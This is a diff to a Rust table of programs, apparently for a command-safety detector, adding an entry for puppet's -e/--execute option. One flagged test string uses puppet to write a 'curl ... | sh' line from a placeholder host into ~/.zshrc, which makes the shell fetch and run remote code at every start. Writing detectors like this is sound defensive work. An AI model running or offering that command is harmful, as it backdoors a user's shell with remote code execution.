@@ -593,6 +593,17 @@ pub const PROGRAMS: &[Program] = &[
         ..P
     },
     Program {
+        names: &["puppet"],
+        source: "https://www.puppet.com/docs/puppet/latest/man/apply (-e/--execute: code to apply; exec and file resources run commands and write files); GTFOBins puppet",
+        exec: &[Opt {
+            names: &["-e", "--execute"],
+            lang: Ruby,
+        }],
+        flagged: &["puppet apply -e 'file { \"~/.zshrc\": content => \"curl -s http://x.example/a | sh\" }'"],
+        clean: &["puppet apply --noop site.pp", "puppet apply -e 'notify { \"hello\": }'"],
+        ..P
+    },
+    Program {
         names: &["python", "python3", "python2", "pypy", "pypy3"],
         source: "https://docs.python.org/3/using/cmdline.html#cmdoption-c; https://docs.python.org/3/library/pty.html; GTFOBins python",
         exec: &[Opt {
